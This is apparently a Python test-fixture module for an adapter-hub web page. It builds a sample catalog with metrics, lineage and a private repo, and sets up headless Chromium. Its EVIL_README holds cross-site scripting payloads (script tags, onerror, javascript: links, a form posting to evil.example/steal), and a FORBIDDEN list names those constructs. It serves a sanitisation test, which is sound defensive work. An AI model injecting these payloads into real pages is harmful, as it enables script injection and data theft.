"""A small catalog for the web page tests (TestClient and the real browser): public adapters with
metrics and lineage, a private repo (with a private tag) and a README full of script payloads."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from adapterhub.store import LineageRecord
from tests.helpers import random_adapter, write_random_adapter

# Each payload would set window.__pwned or the title if it ran; the page must run none of them.
EVIL_README = """# Evil card

Plain text survives.

<script>window.__pwned = 1; document.title = "pwned";</script>
<img id="evil-img" src="x" onerror="window.__pwned = 2; document.title = 'pwned'">
[markdown link](javascript:window.__pwned=3)
<a id="evil-link" href="javascript:window.__pwned=4;document.title='pwned'">html link</a>
<a id="evil-link-2" href=" JaVaScRiPt:window.__pwned=5">mixed case link</a>
<style>body { display: none }</style>
<div id="evil-div" onmouseover="window.__pwned = 6" style="position:fixed;inset:0">hover me</div>
<iframe src="javascript:window.__pwned=7"></iframe>
<svg onload="window.__pwned = 8"><script>window.__pwned = 9</script></svg>
<form action="https://evil.example/steal"><button id="evil-button">go</button></form>
<object data="javascript:window.__pwned=10"></object>
"""

FORBIDDEN = ("<script", "onerror", "onmouseover", "onload", 'href="javascript:', "href=\" javascript",
             "<style", "<iframe", "<object", "evil.example", 'style="position')


def commit_files(hub: Any, repo: str, folder: Path, extra: dict[str, bytes], *, private: bool = False) -> None:
    """Create ``repo`` and commit the PEFT folder plus ``extra`` files, as a hub client would."""
    hub.hub_create_repo(repo, private=private)
    with hub.hub_staging() as staging:
        for path in sorted(folder.iterdir()):
            if path.is_file():
                staging.add_bytes(path.name, path.read_bytes())
        for name, data in extra.items():
            staging.add_bytes(name, data)
        hub.hub_commit(repo, staging, message="first commit")


def make_web_catalog(hub: Any, tmp: Path) -> dict[str, str]:
    """web/sql, web/chat (metrics), web/child (merged from both), web/evil (hostile README),
    secret/plan (private, tag ``secret-tag``) and web/heir (public child of the private one);
    returns a token that owns ``secret`` (write) and an admin write token."""
    sql = hub.add_adapter(random_adapter(60), "web/sql", task="text-to-sql", tags=["sql", "prod"],
                          description="answers in SQL")
    chat = hub.add_adapter(random_adapter(61, base_model="other-base"), "web/chat", task="chat", tags=["chat"])
    hub.add_metrics("web/sql", {"accuracy": 0.9, "zero_shot_accuracy": 0.5}, task="text-to-sql")
    hub.add_metrics("web/chat", {"accuracy": 0.7, "zero_shot_accuracy": 0.6}, task="chat")
    hub.add_adapter(random_adapter(62), "web/child", task="text-to-sql",
                    lineage=[LineageRecord(parent_name="web/sql", operation="merge:lego", parent_digest=sql.digest,
                                           weight=0.5, params={"k": 4, "seed": 0}),
                             LineageRecord(parent_name="web/chat", operation="merge:lego", parent_digest=chat.digest,
                                           weight=0.5, params={"k": 4, "seed": 0})])
    commit_files(hub, "web/evil", write_random_adapter(tmp / "evil", seed=63), {"README.md": EVIL_README.encode()})
    commit_files(hub, "secret/plan", write_random_adapter(tmp / "secret", seed=64),
                 {"README.md": b"---\ntags:\n- secret-tag\n---\n# secret plan\n"}, private=True)
    hub.add_metrics("secret/plan", {"accuracy": 0.99}, task="secret-task")
    plan = hub.get("secret/plan")
    hub.add_adapter(random_adapter(65), "web/heir", task="chat",
                    lineage=[LineageRecord(parent_name="secret/plan", operation="merge:linear", parent_digest=plan.digest,
                                           weight=1.0)])
    owner = hub.create_token(name="secret-owner", owner="secret")["token"]
    admin = hub.create_token(name="admin", admin=True)["token"]
    return {"owner": owner, "admin": admin}


CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
CHROMIUM_FLAGS = ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  "--no-first-run", "--window-size=1280,900")


def import_shipped(hub: Any) -> list[str]:
    """The task adapters of ``examples/``, imported as ``adapterhub demo`` imports them
    (``library/<task>``, with the metrics recorded when each was trained)."""
    from adapterhub.app.demo import _import_library
    from adapterhub.eval.library import META_NAME, find_library

    folder = find_library(None)
    tasks = sorted(p.parent.name for p in folder.glob(f"*/{META_NAME}"))
    return _import_library(hub, folder, tasks, lambda _msg: None)


def chromium_driver(profile: Path) -> Any:
    """Headless Debian Chromium through its own chromedriver (Selenium Manager downloads nothing
    when both paths are given), with a fresh profile in ``profile``."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for flag in (*CHROMIUM_FLAGS, f"--user-data-dir={profile}"):
        options.add_argument(flag)
    return webdriver.Chrome(service=Service(str(CHROMEDRIVER)), options=options)
